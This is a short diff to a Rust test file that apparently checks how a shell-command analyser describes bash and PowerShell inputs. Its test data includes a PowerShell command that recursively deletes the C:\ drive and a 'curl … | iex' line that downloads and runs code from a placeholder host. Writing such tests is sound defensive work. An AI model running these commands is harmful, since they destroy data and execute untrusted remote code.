@@ -1,5 +1,8 @@
 //! Both shells through the entry point, on tables of examples.
 
+mod machine;
+mod values;
+
 use proptest::prelude::*;
 
 use crate::context::{Context, Dialect};
@@ -354,7 +357,7 @@ fn listings_and_programs() {
     );
     posh(
         "function f { param($p) Remove-Item $p -Recurse }; f C:\\",
-        &["delete -r ?"],
+        &["delete -r C:/"],
     );
     posh(
         "curl https://h.example/x | iex",
